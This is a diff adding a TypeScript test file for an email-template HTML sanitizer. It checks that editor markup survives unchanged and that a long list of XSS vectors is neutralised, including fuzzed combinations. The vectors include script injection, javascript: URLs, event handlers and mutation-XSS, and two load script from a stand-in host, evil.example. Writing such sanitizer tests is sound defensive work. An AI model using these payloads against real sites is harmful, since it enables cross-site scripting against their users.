@@ -1,0 +1,151 @@
+// The allow-list: what must survive unchanged, and forty ways to smuggle in a script that must not.
+import fc from 'fast-check'
+import { describe, expect, it } from 'vitest'
+import { sanitizeTemplate } from './sanitize.ts'
+
+const editorHtml = [
+  '<h1>Offer for {{ first_name | default: "you" }}</h1><h6>Small print</h6>',
+  '<p><strong>bold</strong> <em>italic</em> <u>underlined</u> <s>struck</s> x<sub>2</sub> y<sup>3</sup></p>',
+  '<p style="text-align: center;">centred</p><p dir="rtl" style="direction: rtl; text-align: right;">שלום</p>',
+  '<p><span style="color: rgb(230, 0, 0); background-color: #ffff00;">colour</span></p>',
+  '<p><span style="font-size: 32px;">huge</span> <span style="font-family: Georgia, &quot;Times New Roman&quot;, serif;">serif</span></p>',
+  '<ul><li>one<ul><li style="text-align: right;">nested</li></ul></li></ul><ol><li>first<ol><li>deep</li></ol></li></ol>',
+  '<p class="ql-indent-3" style="margin-left: 9em;">indented</p>',
+  '<blockquote>quoted</blockquote><pre>if (a &lt; b) {<br>&nbsp; go()\n}</pre><p>a <code>word</code> of code</p>',
+  '<p><a href="https://example.com/?a=1&amp;b={{ ref_id }}" rel="noopener noreferrer" target="_blank">link</a></p>',
+  '<p><a href="{{ link }}">yours</a> <a href="mailto:ann@example.com">mail</a> <a href="tel:+15550100">call</a></p>',
+  '<p><a href="{{ unsubscribe_url }}">Unsubscribe</a></p>',
+  '<p><img src="/uploads/a1b2.png" alt="" width="300"><img src="https://example.com/x.jpg"></p>',
+  '<p><img src="data:image/png;base64,iVBORw0KGgo="></p>',
+  '<p><br></p><p>two&nbsp; blanks</p>',
+]
+
+describe('a template from the editor', () => {
+  it.each(editorHtml)('survives letter by letter: %s', (html) => {
+    expect(sanitizeTemplate(html)).toBe(html)
+  })
+})
+
+it('a hand-written mail keeps its tables and their looks', () => {
+  const html =
+    '<table role="presentation" width="600" cellpadding="0" cellspacing="0" border="0" align="center" bgcolor="#ffffff" style="border-collapse: collapse; max-width: 600px">' +
+    '<tbody><tr><td colspan="2" valign="top" style="padding: 12px 0; border-bottom: 1px solid #ccc">x</td></tr></tbody></table>'
+  expect(sanitizeTemplate(html)).toBe(html)
+})
+
+const vectors = [
+  '<script>alert(1)</script>',
+  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
+  '<scr<script>ipt>alert(1)</scr</script>ipt>',
+  '<script/src="data:,alert(1)">',
+  '<script>alert(1)',
+  '<img src=x onerror=alert(1)>',
+  '<img src=x onerror="alert(1)" alt="a">',
+  '<img """><script>alert(1)</script>">',
+  '<img src="javascript:alert(1)">',
+  '<img src="jav&#x09;ascript:alert(1)">',
+  '<img src="data:text/html,<script>alert(1)</script>">',
+  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
+  '<a href="javascript:alert(1)">x</a>',
+  '<a href="JaVaScRiPt:alert(1)">x</a>',
+  '<a href=" javascript:alert(1)">x</a>',
+  '<a href="&#106;avascript:alert(1)">x</a>',
+  '<a href="javascript&colon;alert(1)">x</a>',
+  '<a href="java\nscript:alert(1)">x</a>',
+  '<a href="\x01javascript:alert(1)">x</a>',
+  '<a href="vbscript:msgbox(1)">x</a>',
+  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
+  '<a href="https://example.com" onclick="alert(1)">x</a>',
+  '<a href="https://example.com"onmouseover=alert(1)>x</a>',
+  '<svg onload=alert(1)>',
+  '<svg><script>alert(1)</script></svg>',
+  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
+  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
+  '<iframe src="javascript:alert(1)"></iframe>',
+  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
+  '<form action="javascript:alert(1)"><input type=submit><button formaction="javascript:alert(1)">x</button></form>',
+  '<body onload=alert(1)><base href="javascript:/"><link rel=stylesheet href="javascript:alert(1)">',
+  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
+  '<style>@import "javascript:alert(1)"; p{background:url(javascript:alert(1))}</style>',
+  '<p style="background: url(javascript:alert(1))">x</p>',
+  '<p style="width: expression(alert(1))">x</p>',
+  '<p style="-moz-binding: url(//evil.example/x.xml#a); behavior: url(x.htc)">x</p>',
+  '<p style="color: \\65xpression(alert(1))">x</p>',
+  '<p style="position: fixed; inset: 0; z-index: 9">x</p>',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
+  '<template><script>alert(1)</script></template>',
+  '<textarea><script>alert(1)</script></textarea><title><img src=x onerror=alert(1)></title>',
+  '<xmp><img src=x onerror=alert(1)></xmp><plaintext><script>alert(1)</script>',
+  '<!--><script>alert(1)</script>--><![CDATA[<script>alert(1)</script>]]>',
+  '<details open ontoggle=alert(1)><video><source onerror=alert(1)></video><marquee onstart=alert(1)>',
+  '<p/onclick=alert(1) class="x ql-indent-9" id="token">x</p>',
+]
+
+describe('a script in a template', () => {
+  it.each(vectors)('does not survive: %s', (html) => {
+    const cleaned = sanitizeTemplate(html)
+    expectHarmless(cleaned)
+    expect(sanitizeTemplate(cleaned)).toBe(cleaned)
+  })
+
+  it('does not survive in any mixture of these, and cleaning twice changes nothing more', () => {
+    const pieces = fc.constantFrom(
+      ...vectors.flatMap((vector) => vector.split(/(?=[<">])/)),
+      ...[
+        '<p>',
+        '</p>',
+        '"',
+        "'",
+        '&lt;',
+        '{{ first_name }}',
+        '{% if',
+        '<a href="',
+        '<table>',
+        '<!--',
+        '-->',
+      ],
+    )
+    fc.assert(
+      fc.property(fc.array(pieces, { maxLength: 12 }), (some) => {
+        const cleaned = sanitizeTemplate(some.join(''))
+        expectHarmless(cleaned)
+        expect(sanitizeTemplate(cleaned)).toBe(cleaned)
+      }),
+      { numRuns: 1000 },
+    )
+  })
+})
+
+const allowed =
+  /^(?:p|h[1-6]|ul|ol|li|blockquote|pre|div|center|hr|a|img|br|strong|b|em|i|u|s|strike|del|ins|sub|sup|code|span|small|big|mark|font|abbr|q|cite|table|caption|colgroup|col|thead|tbody|tfoot|tr|td|th)$/
+
+/** Reads the cleaned HTML strictly: each `<` begins an allowed tag, whose attributes are all quoted and safe. */
+function expectHarmless(html: string): void {
+  const rest = html.replace(
+    /<\/?([a-z0-9]+)((?: [a-z-]+(?:="[^"<>]*")?)*)>/g,
+    (_tag, name: string, attributes: string) => {
+      expect(name).toMatch(allowed)
+      for (const [, attribute, value = ''] of attributes.matchAll(/ ([a-z-]+)(?:="([^"]*)")?/g)) {
+        expect(attribute).not.toMatch(/^on|^(?:id|srcdoc|formaction|action|data)$/)
+        if (attribute === 'href') expect(protocolOf(value)).toMatch(/^(?:https?|mailto|tel):$/)
+        if (attribute === 'src') expect(protocolOf(value)).toMatch(/^(?:https?:|data:image\/(?!svg))/)
+        if (attribute === 'style') expect(value).not.toMatch(/url|expression|binding|behavior|position:|\\/)
+      }
+      return ''
+    },
+  )
+  expect(rest).not.toContain('<')
+}
+
+/** As a browser resolves an address on a page of ours; of data: addresses with their media type. */
+function protocolOf(value: string): string {
+  const text = value
+    .replaceAll('&quot;', '"')
+    .replaceAll('&lt;', '<')
+    .replaceAll('&gt;', '>')
+    .replaceAll('&amp;', '&')
+  const url = URL.parse(text, 'https://mail.example.com/view/x')
+  if (!url) return 'https:'
+  return url.protocol === 'data:' ? url.href : url.protocol
+}
